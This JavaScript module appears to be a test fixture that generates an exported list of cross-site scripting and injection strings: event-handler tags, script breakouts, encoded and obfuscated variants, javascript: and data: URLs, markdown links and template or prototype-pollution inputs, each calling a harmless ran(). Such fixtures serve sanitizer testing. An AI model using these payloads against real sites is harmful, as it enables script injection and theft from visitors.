// Texts that become code where somebody takes text for markup, an address for harmless, or a template for plain words.
// Each calls `ran()` when it runs.

const call = 'ran()';
const encoded = [...call].map((char) => `&#${char.charCodeAt(0)};`).join('');
const hex = [...call].map((char) => `&#x${char.charCodeAt(0).toString(16)};`).join('');

const handlers = [
  ['img', 'src=x', 'onerror'], ['img', 'src=data:,', 'onerror'], ['svg', '', 'onload'], ['body', '', 'onload'],
  ['iframe', '', 'onload'], ['input', 'autofocus', 'onfocus'], ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'], ['video', 'src=x', 'onerror'], ['audio', 'src=x', 'onerror'],
  ['details', 'open', 'ontoggle'], ['marquee', '', 'onstart'], ['object', 'data=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'], ['script', 'src=x', 'onerror'], ['style', '', 'onload'],
  ['div', 'style="animation: x 1s" tabindex=0', 'onanimationstart'], ['a', 'autofocus tabindex=0', 'onfocus'],
  ['button', 'autofocus', 'onfocus'], ['embed', 'src=x', 'onload'], ['track', '', 'onerror'], ['image', 'src=x', 'onerror'],
];

const elements = handlers.flatMap(([name, attributes, handler]) => [
  `<${name} ${attributes} ${handler}=${call}>`,
  `"><${name} ${attributes} ${handler}="${call}">`,
  `</textarea><${name.toUpperCase()} ${attributes} ${handler.toUpperCase()}='${call}'>`,
]);

const scripts = [
  `<script>${call}</script>`, `"><script>${call}</script>`, `'><script>${call}</script>`, `</script><script>${call}</script>`,
  `</title><script>${call}</script>`, `</style><script>${call}</script>`, `</textarea><script>${call}</script>`,
  `</option></select><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`, `<script\t>${call}</script >`, `<script/x>${call}</script>`, `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`, `<script src=//example.com/x.js></script>`, `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`, `<math><mtext><script>${call}</script></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<template><script>${call}</script></template>`,
  `\u003cscript\u003e${call}\u003c/script\u003e`, `%3Cscript%3E${call}%3C/script%3E`, `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`, `<script>${encoded}</script>`, `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  `<script\u2028>${call}</script>`, `\u202E<script>${call}</script>`, `<script>\u200B${call}</script>`,
];

const frames = [
  `<iframe src="javascript:parent.${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`, `<embed src="javascript:${call}">`, `<form action="javascript:${call}"><button>x`,
  `<button formaction="javascript:${call}">x</button>`, `<a href="javascript:${call}">x</a>`, `<base href="javascript:${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `<math href="javascript:${call}">x</math>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${call}>"/></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${call}>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<style>@import 'javascript:${call}';</style>`, `<style>*{background:url("javascript:${call}")}</style>`,
  `<div style="background:url(javascript:${call})">`, `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<img src="javascript:${call}">`, `<img srcset="x" onerror=${call}>`, `<img src=x onerror=${encoded}>`, `<img src=x onerror=${hex}>`,
  `<img src=x onerror\n=\n${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x oNeRrOr\u0000=${call}>`, `<img src="x\` \`onerror=${call}">`,
  `<img src='x"'onerror=${call}>`, `<!--[if IE]><script>${call}</script><![endif]-->`, `<!--><img src=x onerror=${call}>-->`,
  `<? echo '<script>${call}</script>' ?>`, `<xml><img src=x onerror=${call}></xml>`, `<table background="javascript:${call}">`,
];

const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `java\tscript:${call}`, `java\nscript:${call}`,
  `\u0001javascript:${call}`, `javascript&colon;${call}`, `javascript&#58;${call}`, `&#106;avascript:${call}`, `javascript%3A${call}`,
  `javascript://example.com/%0A${call}`, `//javascript:${call}`, `https:javascript:${call}`, `view-source:javascript:${call}`,
  `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${call}>`,
  `vbscript:${call}`, `blob:https://example.com/${call}`, `https://example.com/"onmouseover="${call}`, `https://example.com/'onmouseover='${call}`,
  `https://example.com/"><img src=x onerror=${call}>`, `https://example.com/)<img src=x onerror=${call}>(`, `https://user:javascript:${call}@example.com/`,
];

const markdown = [
  `[x](javascript:${call})`, `* [x](javascript:${call})`, `[x](<javascript:${call}>)`, `![x](javascript:${call})`, `![x](x "onerror=${call}")`,
  `[x]: javascript:${call}`, `<javascript:${call}>`, `[<img src=x onerror=${call}>](https://example.com/)`,
  `* [x](https://example.com/"onmouseover="${call})`, `\`<img src=x onerror=${call}>\``, `[\`</code><img src=x onerror=${call}>\`](https://example.com/)`,
  `* 2026-03-04 | <img src=x onerror=${call}> | [x](javascript:${call})\n    * [**<script>${call}</script>**](javascript:${call})`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`, `{row}" onfocus="${call}" autofocus x="`,
  `{number}<img src=x onerror=${call}>`, `';${call}//`, `";${call}//`, `\`;${call}//`, `\\";${call}//`, `__proto__`, `constructor`,
  `"}]}<script>${call}</script>`, `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
];

export const injections = [...new Set([...elements, ...scripts, ...frames, ...addresses, ...markdown, ...templates])];
